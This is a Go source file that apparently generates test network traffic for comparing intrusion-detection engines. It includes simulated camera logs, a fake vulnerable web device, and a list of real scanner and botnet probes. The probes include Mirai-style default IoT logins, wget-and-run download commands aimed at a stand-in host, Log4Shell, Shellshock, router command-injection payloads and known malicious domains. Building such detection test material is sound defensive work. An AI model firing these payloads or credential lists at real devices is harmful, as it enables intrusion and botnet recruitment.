package traffic

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sync/errgroup"
)

// Datagrams that nobody answers, and what comes from outside to anything that listens: by it the engines have
// something to say, and what they say can be compared.

const reports = 60 // syslog lines, times and traps of a camera

// serveNoise opens what takes the cameras' reports, and a device that gives way to anyone.
func serveNoise(ctx context.Context) error {
	none := func([]byte) []byte { return nil }
	for _, port := range []uint16{123, 162, 514} {
		if err := listenUDP(ctx, logger, port, none); err != nil {
			return err
		}
	}
	return listenHTTP(ctx, logger, 8080, http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Server", "GoAhead-Webs")
		if req.URL.RawQuery != "" {
			fmt.Fprint(w, "uid=0(root) gid=0(root) groups=0(root)\n")
			return
		}
		http.NotFound(w, req)
	}))
}

// makeNoise sends the reports, and prowls.
func makeNoise(ctx context.Context, g *errgroup.Group) {
	for i := range officeCount {
		d := dice(fmt.Sprint("reports ", i))
		g.Go(func() error {
			return each(ctx, reports, func(n int) error {
				texts := []struct {
					port uint16
					b    []byte
				}{
					{514, []byte(fmt.Sprintf("<134>Nov 23 08:%02d:00 camera-%d %s[%d]: %s", n%60, i, word(d), d.IntN(9999), phrase(d, 12)))},
					{123, append([]byte{0x23, 0, 6, 0xec}, randomBytes(d, 44)...)},
					{162, append([]byte("\x30\x3a\x02\x01\x01\x04\x06public\xa7\x2d\x02\x04"), randomBytes(d, 46)...)},
				}
				t := texts[n%len(texts)]
				return exchange(officeAddr(i), netip.AddrPortFrom(logger, t.port), t.b, false)
			})
		})
	}
	g.Go(func() error { return prowl(ctx) })
	g.Go(func() error {
		return each(ctx, len(badNames), func(i int) error { return look(officeAddr(1), badNames[i]+".", dnsmessage.TypeA, uint16(i)) })
	})
	g.Go(func() error {
		return each(ctx, len(botLogins), func(i int) error {
			return console(ctx, prowler, plantAddr(i%plantCount), botLogins[i][0], botLogins[i][1],
				"enable", "system", "shell", "sh", "/bin/busybox MIRAI", "cd /tmp; wget http://192.0.2.66/bins/mirai.arm7 -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper")
		})
	})
}

var badNames = []string{
	"pastebin.com", "api.telegram.org", "ngrok.io", "abc.duckdns.org", "x.no-ip.org", "api.ipify.org", "icanhazip.com",
	"pool.minexmr.com", "xmr.pool.minergate.com", "raw.githubusercontent.com", "cdn.discordapp.com", "transfer.sh", "bit.ly",
	"checkip.dyndns.org", "example.onion.to", "update.example.tk", "a.b.example.xyz", "example.pw", "example.su", "anonfiles.com",
}

var botLogins = [][2]string{
	{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"}, {"root", "juantech"}, {"root", "123456"},
	{"support", "support"}, {"root", "Zte521"}, {"root", "hi3518"}, {"admin", "7ujMko0admin"}, {"root", "klv123"}, {"default", "default"},
}

// probes are requests of scanners and botnets, as public advisories and honeypots show them.
var probes = []struct{ method, path, agent, body string }{
	{"GET", "/", "Mozilla/5.0 zgrab/0.x", ""},
	{"GET", "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ""},
	{"GET", "/nmaplowercheck1700000000", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", ""},
	{"GET", "/index.php?id=1%20UNION%20SELECT%201,2,3--", "sqlmap/1.7.2#stable (https://sqlmap.org)", ""},
	{"GET", "/../../../../etc/passwd", "curl/7.88.1", ""},
	{"GET", "/cgi-bin/../../../../bin/sh", "Wget/1.21.3", ""},
	{"GET", "/?x=${jndi:ldap://192.0.2.66:1389/a}", "${jndi:ldap://192.0.2.66:1389/a}", ""},
	{"GET", "/cgi-bin/test.cgi", "() { :; }; /bin/bash -c 'id'", ""},
	{"PUT", "/SDK/webLanguage", "python-requests/2.28.1", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>"},
	{"GET", "/Security/users?auth=YWRtaW46MTEK", "python-requests/2.28.1", ""},
	{"GET", "/System/configurationFile?auth=YWRtaW46MTEK", "Go-http-client/1.1", ""},
	{"GET", "/onvif-http/snapshot?auth=YWRtaW46MTEK", "Go-http-client/1.1", ""},
	{"POST", "/RPC2_Login", "python-requests/2.28.1", "{\"method\":\"global.login\",\"params\":{\"userName\":\"admin\",\"password\":\"Not Used\",\"clientType\":\"NetKeyboard\",\"loginType\":\"Direct\",\"authorityType\":\"Default\"},\"id\":1,\"session\":0}"},
	{"POST", "/GponForm/diag_Form?images/", "Hello, World", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://192.0.2.66/m`;&ipv=0"},
	{"POST", "/boaform/admin/formLogin", "Mozilla/5.0", "username=admin&psd=admin"},
	{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws", "Hello, world", ""},
	{"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.66:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", "Mozilla/5.0", ""},
	{"POST", "/HNAP1/", "Mozilla/5.0", "<?xml version=\"1.0\"?><soap:Envelope><soap:Body><AddPortMapping><PortMappingDescription>foobar</PortMappingDescription></AddPortMapping></soap:Body></soap:Envelope>"},
	{"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "Mozilla/5.0", ""},
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0", "<?=phpinfo();"},
	{"GET", "/.env", "Mozilla/5.0", ""},
	{"GET", "/.git/config", "Mozilla/5.0", ""},
	{"GET", "/wp-login.php", "Mozilla/5.0 (Hydra)", ""},
	{"GET", "/system.ini?loginuse&loginpas", "curl/7.54.0", ""},
	{"GET", "/set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas=admin&svr=192.0.2.66&port=21&user=ftp&pwd=$(telnetd -p25 -l/bin/sh)&dir=/&mode=PORT", "curl/7.54.0", ""},
	{"GET", "/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password>$(ps)", "Mozilla/5.0", ""},
	{"POST", "/tmUnblock.cgi", "Mozilla/5.0", "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F192.0.2.66%2Fx%60&StartEPI=1"},
	{"GET", "/manager/html", "Mozilla/5.0", ""},
	{"GET", "/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/Mozi.a;chmod+777+Mozi.a", "Mozilla/5.0", ""},
	{"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "Mozilla/5.0", ""},
	{"OPTIONS", "/", "Java/1.8.0_151", ""},
	{"PROPFIND", "/", "Microsoft-WebDAV-MiniRedir/10.0", "<?xml version=\"1.0\"?><propfind/>"},
	{"GET", "/download/setup.exe", "MSIE 6.0", ""},
}

// prowl sends every probe to a camera, to a site and to the device that gives way.
func prowl(ctx context.Context) error {
	c := newWebClient(prowler)
	targets := []string{"http://" + at(cameraAddr(0), 80), "http://" + at(siteAddr(1), 80), "http://" + at(logger, 8080)}
	return each(ctx, len(probes)*len(targets), func(n int) error {
		p := probes[n%len(probes)]
		c.agent = p.agent
		return c.raw(ctx, p.method, targets[n/len(probes)], p.path, []byte(p.body))
	})
}
